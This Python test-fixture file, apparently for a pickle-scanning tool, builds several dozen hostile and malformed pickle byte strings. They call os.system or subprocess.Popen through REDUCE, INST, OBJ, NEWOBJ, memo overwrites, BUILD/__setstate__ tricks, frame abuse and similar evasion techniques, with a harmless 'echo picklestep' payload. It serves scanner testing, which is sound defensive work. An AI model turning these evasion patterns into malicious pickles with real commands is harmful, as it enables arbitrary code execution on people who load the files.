"""Hostile and broken pickles, in the manner of known attacks. They are written as bytes here and are never loaded; what they
would call is harmless ('echo picklestep')."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from typing import Optional

PAYLOAD = b'echo picklestep'
SYSTEM = b'cos\nsystem\n'


def text(words: bytes) -> bytes:
    return b'X' + struct.pack('<I', len(words)) + words


def short(words: bytes) -> bytes:
    return b'\x8c' + bytes([len(words)]) + words


def frame(inside: bytes, number: Optional[int] = None) -> bytes:
    """A frame of these bytes; the number says how long it claims to be."""
    return b'\x95' + struct.pack('<Q', len(inside) if number is None else number) + inside


CALL = SYSTEM + text(PAYLOAD) + b'\x85R'
NAMED_CALL = short(b'os') + short(b'system') + b'\x93' + short(PAYLOAD) + b'\x85R'

ATTACKS = [
    ('system_call_by_reduce', SYSTEM + b"(S'" + PAYLOAD + b"'\ntR.", 'the classic, as text'),
    ('system_call_by_reduce_protocol_2', b'\x80\x02' + CALL + b'.', 'the classic, binary'),
    ('system_call_by_inst', b"(S'" + PAYLOAD + b"'\nios\nsystem\n.", 'a call by INST'),
    ('system_call_by_obj', b'(' + SYSTEM + text(PAYLOAD) + b'o.', 'a call by OBJ'),
    ('system_call_by_newobj', b'\x80\x02' + SYSTEM + text(PAYLOAD) + b'\x85\x81.', 'a call by NEWOBJ'),
    ('system_call_by_newobj_with_keywords', b'\x80\x04' + frame(
        short(b'subprocess') + short(b'Popen') + b'\x93' + short(PAYLOAD) + b'\x85}' + short(b'shell') + b'\x88s\x92.'),
     'a call by NEWOBJ_EX'),
    ('names_from_the_memo', b'\x80\x04' + frame(
        short(b'system') + b'\x94' + b'0' + short(b'os') + b'\x94' + b'0](h\x01h\x00eh\x01h\x00\x93' + short(PAYLOAD) + b'\x85R.'),
     'STACK_GLOBAL of strings that were memoized long before'),
    ('names_from_a_call', b'\x80\x04' + frame(
        b'cbase64\nb64decode\n' + short(b'b3M=') + b'\x85R' + short(b'system') + b'\x93' + short(PAYLOAD) + b'\x85R.'),
     'STACK_GLOBAL of a module that is a result'),
    ('name_with_dots', b'\x80\x04' + frame(short(b'posixpath') + short(b'os.system') + b'\x93' + short(PAYLOAD) + b'\x85R.'),
     'a function reached through another module'),
    ('state_that_sets_setstate', b'c__main__\nHarmless\n)\x81}(V__setstate__\n' + SYSTEM + b'ubV' + PAYLOAD + b'\nb.',
     'BUILD puts a call in place, a second BUILD makes it'),
    ('build_on_a_module', b'cbuiltins\n__dict__\n}' + text(b'print') + SYSTEM + b'sb.', 'BUILD changes what names mean'),
    ('memo_entry_overwritten', b'\x80\x02cbuiltins\nprint\nq\x00' + b'0' + SYSTEM + b'q\x00' + b'0h\x00' + text(PAYLOAD) + b'\x85R.',
     'a name in the memo is stored again'),
    ('memo_entry_overwritten_late', b"(S'harmless'\np0\n" + SYSTEM + b'p0\n(g0\nV' + PAYLOAD + b'\no.', 'likewise, as text'),
    ('memo_count_after_overwriting', b'\x80\x04N\x94q\x00N\x94N\x94]h\x01\x85.', 'MEMOIZE counts entries, not what was stored'),
    ('memo_key_far_away', b'\x80\x02' + SYSTEM + b'r\xff\xff\xff\x7f0j\xff\xff\xff\x7f' + text(PAYLOAD) + b'\x85R.',
     'a key that a table of memo entries cannot hold'),
    ('memo_key_with_zeros', SYSTEM + b'p007\n0g7\n(V' + PAYLOAD + b'\ntR.', 'one key, spelled in two ways'),
    ('call_hidden_by_pop_mark', b'\x80\x02(' + CALL + b'1' + text(b'harmless') + b'.', 'a result that is thrown away with its mark'),
    ('call_hidden_by_pop', b"N(S'" + PAYLOAD + b"'\nios\nsystem\n0.", 'a result that is thrown away'),
    ('call_hidden_by_a_dropped_mark', b'(' + CALL + b'00N.', 'a result and its mark that are thrown away'),
    ('call_of_a_double', b'\x80\x02' + SYSTEM + b'22' + text(PAYLOAD) + b'\x85R0' + text(PAYLOAD) + b'\x85R\x86.',
     'DUP of the function, called twice'),
    ('call_in_a_call', b'cbuiltins\neval\n(cbuiltins\ngetattr\n(cbuiltins\nstr\nVlower\ntR(V"1"\ntRtR.', 'calls in the arguments of calls'),
    ('call_by_persistent_id', SYSTEM + text(PAYLOAD) + b'\x85RQPpoint 17\n\x86.', 'a persistent id that is a result'),
    ('call_by_extension_code', b'\x80\x02\x82\x07)R\x83\x2c\x01)R\x84\x70\x11\x01\x00)R\x87.', 'codes instead of names'),
    ('payload_before_the_break', b'\x80\x02' + CALL + b'0' + text(b'rest') + b'\xff\xff\xff', 'an unknown opcode after the call'),
    ('payload_before_a_cut', b'\x80\x04' + CALL + short(b'rest')[:3], 'cut short after the call'),
    ('payload_without_a_stop', CALL, 'no STOP after the call'),
    ('payload_after_the_stop', b'\x80\x02' + text(b'harmless') + b'.' + b'\x80\x02' + CALL + b'.', 'a second pickle'),
    ('payload_in_front_of_a_protocol', b'N0' + CALL + b'0\x80\x04' + frame(short(b'harmless') + b'.'), 'PROTO comes late'),
    ('list_that_holds_itself_many_times', b']2222222aaaaaaa.', 'DUP and APPEND of itself'),
    ('growing_lists', b'\x80\x02](NNNeq\x00](h\x00h\x00h\x00eq\x01](h\x01h\x01h\x01e\x87.', 'lists of lists of lists'),
    ('hundred_marks', b'(' * 100 + b't' * 100 + b'.', 'a hundred open marks'),
]

BROKEN_FRAMES = [
    ('frame_in_a_frame', b'\x80\x04' + frame(short(b'one') + frame(NAMED_CALL) + b'.'), 'nested frames'),
    ('frame_past_the_end', b'\x80\x04' + frame(NAMED_CALL + b'.', 4000), 'a frame longer than the file'),
    ('frame_crossed', b'\x80\x04' + frame(NAMED_CALL + b'.', 25), 'an opcode that ends past its frame'),
    ('frame_crossed_by_a_line', b'\x80\x04' + frame(b'cos\nsys', 6) + b'tem\n)R.', 'a line that ends past its frame'),
    ('frames_of_nothing', b'\x80\x04' + frame(b'') + frame(b'') + NAMED_CALL + frame(b'') + frame(b'.'), 'empty frames'),
    ('frame_into_the_tail', b'\x80\x04' + frame(b'N.' + NAMED_CALL + b'.'), 'a frame with bytes after the STOP'),
    ('frame_ends_with_the_file', b'\x80\x04' + frame(NAMED_CALL), 'a frame without a STOP'),
    ('frame_and_a_frame_past_the_end', b'\x80\x04' + frame(NAMED_CALL) + frame(b'.', 2), 'the second frame is one byte too long'),
]

# what this project reads more strictly, or less, than pickletools does
OTHER_READINGS = [
    ('memo_key_with_a_sign', SYSTEM + b'p+1\n0g1\n(V' + PAYLOAD + b'\ntR.', 'a key `+1`'),
    ('memo_key_with_blanks', SYSTEM + b'p1 \n0g 1\n(V' + PAYLOAD + b'\ntR.', 'keys with blanks'),
    ('memo_key_with_underscores', SYSTEM + b'p10\n0g1_0\n(V' + PAYLOAD + b'\ntR.', 'a key `1_0`'),
    ('memo_key_past_eight_bytes', SYSTEM + b'p18446744073709551616\n0g18446744073709551616\n)R.', 'a key of 2 to the 64'),
    ('memo_key_of_eight_bytes', SYSTEM + b'p18446744073709551615\n0g18446744073709551615\n)R.', 'a key of 2 to the 64 less 1'),
    ('lines_with_carriage_returns', b"(lp0\r\nS'one'\r\np1\r\na.", 'a text file of another system'),
    ('string_of_one_quote', b"S'\n.", 'one quote that is both ends'),
    ('string_without_quotes', b'Sabc\n.', 'no quotes'),
    ('string_with_a_bad_escape', b"(S'\\xzz'\nS'caf\xe9'\nt.", 'payloads that Python does not decode'),
    ('text_that_is_no_utf_8', b'\x80\x04(' + text(b'\xff\xfe') + short(b'\xc3(') + b't.', 'likewise'),
    ('text_with_a_bad_escape', b'(V\\u12\nV\\Uffffffff\nt.', 'likewise'),
    ('numbers_that_are_none', b'(Iten\nL0x10L\nF1,5\nI\nt.', 'likewise'),
    ('name_outside_ascii', b'cmod\xc3\xbcl\nname\n(V1\ni\xff\nb\n\x86.', 'likewise'),
    ('persistent_id_outside_ascii', b'Pcaf\xc3\xa9\n.', 'likewise'),
    ('negative_lengths', b'(T\xff\xff\xff\xffabc.', 'a length of -1'),
    ('negative_length_of_a_long', b'\x80\x02\x8b\xfe\xff\xff\xff\x01\x02.', 'a length of -2'),
    ('length_far_past_the_end', b'\x80\x04\x8e\xff\xff\xff\xff\xff\xff\xff\xffabc.', 'a length of 2 to the 64 less 1'),
]

# where the machine refuses
REFUSED = [
    ('no_mark', b'N]t.', 'TUPLE without a mark'),
    ('too_few_objects', b'\x80\x02N\x86.', 'TUPLE2 of one object'),
    ('objects_under_a_mark', b'\x80\x02N(N\x86N.', 'TUPLE2 of an object and a mark'),
    ('store_of_a_mark', b'N(q\x00.', 'BINPUT of a mark'),
    ('double_of_a_mark', b'N(2.', 'DUP of a mark'),
    ('store_of_nothing', b'\x80\x04\x94.', 'MEMOIZE of nothing'),
    ('entry_that_is_not_there', SYSTEM + b'q\x00h\x01R.', 'BINGET of no entry'),
    ('stop_of_nothing', b'.', 'STOP of nothing'),
    ('obj_of_nothing', b'(o.', 'OBJ without a class'),
    ('odd_dictionary', b"(S'a'\nI1\nS'b'\nd.", 'DICT of three objects'),
    ('odd_items', b'}(K\x01K\x02K\x03u.', 'SETITEMS of three objects'),
    ('append_to_a_tuple', b')K\x01a.', 'APPEND to a tuple'),
    ('items_of_a_set', b'\x80\x04\x8fK\x01K\x02s.', 'SETITEM of a set'),
    ('protocol_of_the_future', b'\x80\x09' + CALL + b'.', 'PROTO 9'),
    ('extension_code_of_zero', b'\x80\x02\x82\x00)R.', 'EXT1 0'),
    ('extension_code_below_zero', b'\x80\x02\x84\xff\xff\xff\xff)R.', 'EXT4 -1'),
    ('name_that_is_a_number', b'\x80\x04' + short(b'os') + b'K\x01\x93.', 'STACK_GLOBAL of a number'),
    ('call_of_a_text', b'Vos.system\n(V' + PAYLOAD + b'\ntR.', 'REDUCE of a text'),
    ('arguments_that_are_a_text', SYSTEM + b'V' + PAYLOAD + b'\nR.', 'REDUCE with a text as arguments'),
    ('keywords_that_are_a_list', b'\x80\x04' + SYSTEM + b')]\x92.', 'NEWOBJ_EX with a list as keywords'),
    ('objects_left_on_the_stack', b'\x80\x02' + CALL + b'(K\x01(K\x02K\x03.', 'STOP leaves objects and marks'),
]

# opcodes that only Python 2 writes
OLD = [('python_2_strings_by_hand', b"\x80\x02(S'line'\nU\x05shortT" + struct.pack('<i', 300) + b'long ' * 60 + b't.', 'three strings')]

NO_PICKLES = [
    ('empty_file', b'', 'no byte'),
    ('archive', b'PK\x03\x04\x00\x00\x08\x08\x00\x00' + b'\x00' * 20, 'the head of a zip file'),
    ('words', b'import os\nos.system("echo picklestep")\n', 'a program in text'),
]


def pickles() -> Iterator[tuple[str, bytes, str]]:
    """Each pickle's name, bytes, and what it holds."""
    for rows in (ATTACKS, BROKEN_FRAMES, OTHER_READINGS, REFUSED, OLD, NO_PICKLES):
        yield from rows
